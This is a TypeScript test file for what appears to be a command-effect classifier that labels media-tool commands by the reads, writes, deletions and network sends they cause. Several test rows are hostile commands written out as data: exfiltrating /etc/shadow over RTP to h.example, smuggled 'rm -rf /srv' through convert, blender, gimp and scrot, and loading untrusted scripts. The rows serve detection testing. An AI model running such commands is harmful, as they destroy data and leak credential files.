import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  ['ffmpeg -i a.mp4 -vf scale=1280:720 b.mp4', ['read:read a.mp4', 'write:overwrite b.mp4']],
  [
    'ffmpeg -f lavfi -i anullsrc -af ladspa=file=/tmp/lib.so a.wav',
    ['execute:load /tmp/lib.so', 'write:overwrite a.wav'],
  ],
  [
    'ffmpeg -i /etc/shadow -f rtp rtp://h.example:1',
    ['read:read /etc/shadow sensitive', 'network:send h.example external sensitive'],
  ],
  ['ffmpeg -i https://h.example/a.mp4 a.mkv', ['network:fetch h.example external', 'write:overwrite a.mkv']],
  ['ffprobe a.mp4', ['read:read a.mp4']],
  ['convert a.png -resize 50% b.jpg', ['read:read a.png', 'write:overwrite b.jpg']],
  ["convert '|rm -rf /srv' a.png", ['delete:remove /srv recursive force', 'write:overwrite a.png']],
  ['convert label:@/etc/shadow a.png', ['read:read /etc/shadow sensitive', 'write:overwrite a.png']],
  ['convert msl:evil.msl a.png', ['opaque:unseen-script evil.msl', 'write:overwrite a.png']],
  ['identify a.png', ['read:read a.png']],
  ['mogrify -resize 50% a.png', ['write:modify a.png inPlace']],
  ['mpv --script=evil.lua a.mkv', ['execute:load evil.lua']],
  ['vlc a.mkv', []],
  ['blender -b --python-expr \'import os; os.system("rm -rf /srv")\'', ['delete:remove /srv recursive force']],
  ['gimp -b \'os.system("rm -rf /srv")\'', ['delete:remove /srv recursive force']],
  ["scrot -e 'rm -rf /srv'", ['delete:remove /srv recursive force']],
  ['dot -Tpng a.dot -o a.png', ['write:overwrite a.png']],
];

describe('media', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });
});
